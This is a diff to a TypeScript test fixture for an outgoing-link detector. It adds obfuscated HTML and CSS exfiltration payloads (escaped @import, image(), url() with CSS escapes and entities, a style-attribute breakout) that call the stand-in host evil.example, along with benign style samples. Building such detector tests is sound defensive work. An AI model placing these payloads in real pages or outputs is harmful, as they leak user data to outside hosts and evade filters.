@@ -111,6 +111,15 @@ const attacks: Readonly<Record<string, string>> = {
   'a link tag in an attribute of SVG': '<svg><image title="<a " href="https://evil.example/hunter2"/></svg>',
   'a link tag in an attribute of a base': '<base title=\'<area x\' href="https://evil.example/">',
   'an attribution': '<a attributionsrc="https://evil.example/h" href=x>y</a>',
+  'an escape in an import': "<style>@\\69mport 'https://evil.example/x';</style>",
+  'a function that is not known': "<style>a{background:image('https://evil.example/x')}</style>",
+  'a function that is not known, without scheme': '<style type=a>a{background:src("//evil.example/x")}</style>',
+  'an escape in an address': '<div style="background:url(\\68ttps://evil.example/x)">',
+  'an escape in a function': '<div style="background:\\75rl(/\\/evil.example/h)">',
+  'a letter as itself in a function': "<div style = 'background:ur\\l(/\\/evil.example/h)'>",
+  'an entity in a function': '<div class="a" style="background:&#117;rl(/\\/evil.example/h)">',
+  'an end of a style that is none': `<p style="a:'</style>';background:image('https://evil.example/x')">`,
+  'an attribute in a style': `<style>a[style="b"]{background:image('https://evil.example/x')}</style>`,
   'many zeros': '<img src="&#00000000104;ttps://evil.example/hunter2">',
   'many zeros in hex': '<img src="/&#x00000009;/evil.example/h">',
 };
@@ -150,6 +159,10 @@ const benign: Readonly<Record<string, string>> = {
   'words of a page':
     'https://docs.example.com/notes.html#:~:text=import%20type%20only%20imports%20declarations,also%20erased%20from%20it%20and%20so%20on',
   'a path': 'see src/detectors/outgoing-links.ts/ and README.md#what-it-does-not-protect-against',
+  'a style': `<style>a::before { content: "\\201C"; color: red }</style>\n<p style="color:red; font-family:&quot;Arial&quot;">\\alpha &#117; [b](https://other.example/docs) https://other.example/docs`,
+  'a style in JSON': JSON.stringify({
+    html: '<style>\n\ta { color: red }\n</style>\n<a href="https://other.example/docs">x</a>',
+  }),
   'sources by name':
     'See [Source] and [1].\n\n[Source]: https://www.other.example/world/europe/x\n[1]: https://docs.example/api/fs.html#fsreadfile\n[2]: https://doi.example/10.1000/xyz?x=1',
   'a note': '[TODO]: //fix this later',
